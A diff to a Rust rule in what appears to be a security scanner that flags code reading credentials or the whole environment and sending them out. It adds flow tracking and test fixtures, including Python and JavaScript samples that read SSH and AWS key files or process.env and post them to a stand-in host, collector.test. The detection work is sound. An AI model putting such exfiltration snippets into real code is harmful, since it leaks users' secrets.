@@ -2,8 +2,8 @@
 
 use std::sync::LazyLock;
 
-use super::source_calls::{SourceFile, sends, source_files, text_of, weighed};
-use crate::evidence::source::{Argument, Call};
+use super::source_calls::{SourceFile, carried_out, sends, source_files, text_of, weighed};
+use crate::evidence::source::{Argument, Call, Origins};
 use crate::fact::{Confidence, Severity};
 use crate::rules::{FactSink, Rule, RuleMeta, Subject};
 
@@ -14,11 +14,11 @@ static META: LazyLock<RuleMeta> = LazyLock::new(|| toml::from_str(CARD).expect("
 
 const CARD: &str = r##"
 id = "source-credential-read-and-send"
-version = 2
+version = 3
 title = "Secrets are read and something is sent"
 why = "Reading a key file or the whole environment beside a network call is how credentials leave a machine."
 fix = "Read only the variables that are needed, by name; leave key files to the programs that own them."
-cannot_see = "Whether what is read is what is sent; flows over several files."
+cannot_see = "Flows over several files, and through code that it does not know: there it goes by how near reading and sending stand."
 severity = "critical"
 confidence = "high"
 kinds = ["skill", "mcp_server", "hook", "plugin", "package"]
@@ -41,6 +41,30 @@ note = "The whole environment is posted."
 import os, json, requests
 requests.post("https://collector.test", data=json.dumps(dict(os.environ)))
 '''
+[[examples.fires]]
+note = "One of many files, read in one function and sent in another."
+[examples.fires.files]
+"a.py" = '''
+import os, requests
+PATHS = ["~/.ssh/id_rsa", "~/.aws/credentials"]
+def gather():
+    found = {}
+    for path in PATHS:
+        with open(os.path.expanduser(path)) as f:
+            found[path] = f.read()
+    return found
+def main():
+    data = gather()
+    requests.post("https://collector.test", json=data)
+'''
+[[examples.fires]]
+note = "The environment over a request that is written to."
+[examples.fires.files]
+"a.js" = '''
+const https = require("https");
+const body = Buffer.from(JSON.stringify(process.env)).toString("base64");
+const req = https.request({ hostname: "collector.test", method: "POST" });
+req.write(body); req.end();'''
 [[examples.silent]]
 note = "One variable by name."
 [examples.silent.files]
@@ -49,6 +73,12 @@ note = "One variable by name."
 note = "The environment is filtered and nothing is sent."
 [examples.silent.files]
 "index.js" = 'for (const [k, v] of Object.entries(process.env)) { if (k.startsWith("APP_")) settings[k] = v; }'
+[[examples.silent]]
+note = "The environment for a child that downloads."
+[examples.silent.files]
+"index.js" = '''
+import { spawn } from "child_process";
+spawn("wget", ["https://files.test/a", "-O", "a"], { env: process.env });'''
 [[examples.silent]]
 note = "The environment for a child."
 [examples.silent.files]
@@ -66,6 +96,9 @@ impl Rule for SourceCredentialReadAndSend {
     fn check(&self, subject: &Subject<'_>, facts: &mut FactSink<'_>) {
         for file in source_files(subject) {
             let senders: Vec<&Call> = file.view.calls.iter().filter(|call| sends(call)).collect();
+            if report_flows(&file, facts) {
+                continue;
+            }
             for call in &file.view.calls {
                 if let Some(whole) = reads_secret(call) {
                     report(&file, call, &senders, whole, facts);
@@ -73,6 +106,23 @@ impl Rule for SourceCredentialReadAndSend {
             }
         }
     }
+}
+
+/// Reports the calls that surely send a secret or the environment; then what stands near what tells nothing more.
+fn report_flows(file: &SourceFile<'_>, facts: &mut FactSink<'_>) -> bool {
+    let mut found = false;
+    for call in &file.view.calls {
+        let carried = carried_out(call).unwrap_or_default();
+        let judged = match (carried.any(Origins::SECRET), carried.any(Origins::ENVIRONMENT)) {
+            (true, _) => Severity::Critical,
+            (false, true) => Severity::High,
+            (false, false) => continue,
+        };
+        found = true;
+        let (severity, confidence) = weighed(file, judged, Confidence::High);
+        facts.found_as(severity, confidence, call.place.clone(), &call.text);
+    }
+    found
 }
 
 /// How far apart, in lines of ordinary length, a read and a send are surely one piece of work.
@@ -153,10 +203,10 @@ fn report(file: &SourceFile<'_>, call: &Call, senders: &[&Call], whole: bool, fa
     let judged = match (nearest, whole) {
         (None, true) => return,
         (None, false) => (Severity::Low, Confidence::Medium),
-        (Some(distance), false) if distance <= NEAR => (Severity::Critical, Confidence::Medium),
-        (Some(distance), true) if distance <= NEAR => (Severity::High, Confidence::Medium),
-        (Some(_), false) => (Severity::High, Confidence::Low),
-        (Some(_), true) => (Severity::Medium, Confidence::Low),
+        (Some(distance), false) if distance <= NEAR => (Severity::High, Confidence::Medium),
+        (Some(_), false) => (Severity::Medium, Confidence::Low),
+        (Some(distance), true) if distance <= NEAR => (Severity::Medium, Confidence::Medium),
+        (Some(_), true) => (Severity::Low, Confidence::Low),
     };
     let (severity, confidence) = weighed(file, judged.0, judged.1);
     facts.found_as(severity, confidence, call.place.clone(), &call.text);
